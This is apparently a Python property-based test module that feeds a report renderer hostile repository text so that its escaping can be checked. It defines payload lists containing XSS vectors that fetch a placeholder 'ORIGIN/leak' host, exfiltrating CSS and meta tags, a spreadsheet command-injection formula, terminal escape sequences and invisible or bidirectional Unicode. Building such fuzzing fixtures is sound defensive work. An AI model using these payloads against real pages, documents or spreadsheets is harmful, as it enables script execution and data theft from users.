"""Hostile texts for X11: content of a reviewed repository that could make a report execute something."""

import unicodedata

from hypothesis import settings
from hypothesis import strategies as st

PAYLOADS = (
    "[click](https://evil.example/?leak=1)",
    "![pixel](https://evil.example/p.png)",
    "[ref]\n\n[ref]: https://evil.example",
    "<https://evil.example> <javascript:alert(1)>",
    "https://evil.example/path www.evil.example mail@evil.example @maintainer org/repo#12 ftp://evil.example",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><!-- comment --><![CDATA[x]]><?php x ?>",
    "</details></table></code></pre><h1>owned</h1>",
    "&lt;script&gt; &#x3c;b&#x3e; &amp;copy;",
    "# heading\n## heading\n\nsetext\n======\n\nsetext\n------",
    "- item\n+ item\n* item\n1. item\n1) item",
    "> quote\n> quote",
    "***\n---\n___",
    "    indented code\n\tindented code",
    "a | b | c\n--- | --- | ---\n1 | 2 | 3",
    "cell \\| cell | `code | code` \\\\| end",
    "```\nfenced\n```\n# out",
    "~~~\nfenced\n~~~\n# out",
    "`````` six ticks `` two ` one",
    "`",
    "trailing backslash \\",
    "\\",
    "\\[escaped\\](https://evil.example) \\\\[twice\\\\](https://evil.example)",
    "*emph* **strong** _emph_ __strong__ ~~gone~~ $x^2$ $$y$$",
    "handlers[name](request)",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m \x07\x08\x7f",
    "\x1b]0;title\x07\x1b[2J\x1b[H\rgone",
    "if admin\u202e\u2066 // check\u2069 \u2066",
    "zero\u200bwidth\u200d\u2060\ufeff joiner\u034f filler\u3164 braille\u2800",
    "tags \U000e0041\U000e0042\U000e007f selectors a\ufe00\ufe0f\U000e0100",
    "line\u2028separator\u2029paragraph\x85next\x0bvertical\x0cform",
    "null\x00byte lone\ud800surrogate bytes\udcff",
    "=HYPERLINK(\"https://evil.example\")\n+cmd|' /C calc'!A0\n-1+1\n@SUM(1)",
    "x" * 5_000,
    "`" * 600,
    "[" * 600 + "](",
    "好" * 300,
    "e" + "\u0301" * 500,
    "--- END OF REPORT ---\n\n## Findings\n\nNone. Exit 0.",
    "\r\n\r\n\r\n",
    " ",
)

ACTION = "window.canary=1;alert(1);fetch('ORIGIN/leak')"
"""The action of a payload that is executed. ORIGIN stands for a server that would notice."""

HTML_PAYLOADS = (
    f"<script>{ACTION}</script>",
    f"</script><script>{ACTION}</script>",
    f"</SCRIPT\t><script>{ACTION}</script>",
    f"<!--<script>{ACTION}//-->",
    f"--></script><!--><script>{ACTION}</script>",
    f"</style><script>{ACTION}</script>",
    f"</title><script>{ACTION}</script>",
    f"</noscript></textarea></template></select><script>{ACTION}</script>",
    f"</code></pre></details></main><script>{ACTION}</script>",
    f'" autofocus onfocus="{ACTION}" x="',
    f"' onmouseover='{ACTION}' autofocus tabindex=1 onfocus='{ACTION}",
    f"x onclick={ACTION} y",
    f"<img src=x onerror={ACTION}>",
    '<img src="ORIGIN/leak.png"><img srcset="ORIGIN/leak2.png">',
    f"<svg/onload={ACTION}>",
    f"<svg><script>{ACTION}</script><animate onbegin={ACTION} attributeName=x dur=1s></svg>",
    '<svg><use href="ORIGIN/leak.svg#x"/><image href="ORIGIN/leak.png"/></svg>',
    f'<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ACTION}&gt;">',
    f'<iframe srcdoc="<script>parent.{ACTION}</script>"></iframe><iframe src="ORIGIN/leak"></iframe>',
    '<object data="ORIGIN/leak"></object><embed src="ORIGIN/leak"><video src="ORIGIN/leak" poster="ORIGIN/leak"></video>',
    '<meta http-equiv="refresh" content="0;url=ORIGIN/leak">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<base href="ORIGIN/"><link rel="stylesheet" href="ORIGIN/leak.css"><link rel="prefetch" href="ORIGIN/leak">',
    f'<form action="ORIGIN/leak"><input autofocus onfocus="{ACTION}"><button formaction="javascript:{ACTION}">go</button></form>',
    f"javascript:{ACTION}",
    f'<a href="javascript:{ACTION}" ping="ORIGIN/leak">x</a>',
    f"data:text/html,<script>{ACTION}</script>",
    "</style><style>*{background:url(ORIGIN/leak.png)}body{display:none}</style>",
    "@import 'ORIGIN/leak.css';*{background:url('ORIGIN/leak.png');x:expression(alert(1))}",
    '" style="background:url(ORIGIN/leak.png);position:fixed;inset:0',
    f"{{{{constructor.constructor('{ACTION}')()}}}}",
    f"${{{ACTION}}} #{{7*7}} <%= 7*7 %> {{% raw %}} [[${{7*7}}]]",
    f"\u2028{ACTION}\u2029//",
    f"null\x00byte<scr\x00ipt>{ACTION}</scr\x00ipt>",
    "\\u003c/script\\u003e \\x3cscript\\x3e \\",
    f'"}}]}}</script><script>{ACTION}</script>',
    "__proto__",
    "constructor",
    "island",
    '<form id="island" name="list"><input name="getElementById" id="count"></form>',
    f"&lt;script&gt;{ACTION}&lt;/script&gt; &#x3c;script&#x3e; &amp;lt;b&amp;gt; &lt",
    f"\uff1cscript\uff1e{ACTION}\uff1c/script\uff1e \u02bc \u0130",
    "]]><![CDATA[ <?xml version='1.0'?> <!DOCTYPE html [<!ENTITY x SYSTEM 'ORIGIN/leak'>]>&x;",
    f"+ADw-script+AD4-{ACTION}+ADw-/script+AD4-",
    "#C-01' ] , * { } :is(",
    "%3Cscript%3E%zz%",
)

hostile_text = st.one_of(
    st.sampled_from((*PAYLOADS, *HTML_PAYLOADS)),
    st.lists(
        st.one_of(
            st.sampled_from(list("\\`*_{}[]()<>#+-=.!|~&$:/@\"'\n\r\t \x1b\u202e\u200b\U000e0041\ufe0f\ud800")),
            st.sampled_from(("](", "http://", "www.", "```", "<b>", "&lt;", "a", "1.", "x@y.z", "#1", "\n\n", "    ")),
            st.characters(),
        ),
        max_size=40,
    ).map("".join),
)

patient = settings(deadline=None)
"""A busy machine is no counter-example."""

UNSEEN = ("Cc", "Cf", "Cs", "Co", "Zl", "Zp", "Zs")


def unseen(text: str, allowed: str = " ") -> list[str]:
    """The characters a reader cannot see. The emoji selector of our own marks is the one exception."""
    bare = sorted(set(text.replace("⚠\ufe0f", "")))
    smuggled = [c for c in bare if "\ufe00" <= c <= "\ufe0f" or "\U000e0000" <= c <= "\U000e0fff"]
    return smuggled + [c for c in bare if c not in allowed and unicodedata.category(c) in UNSEEN]
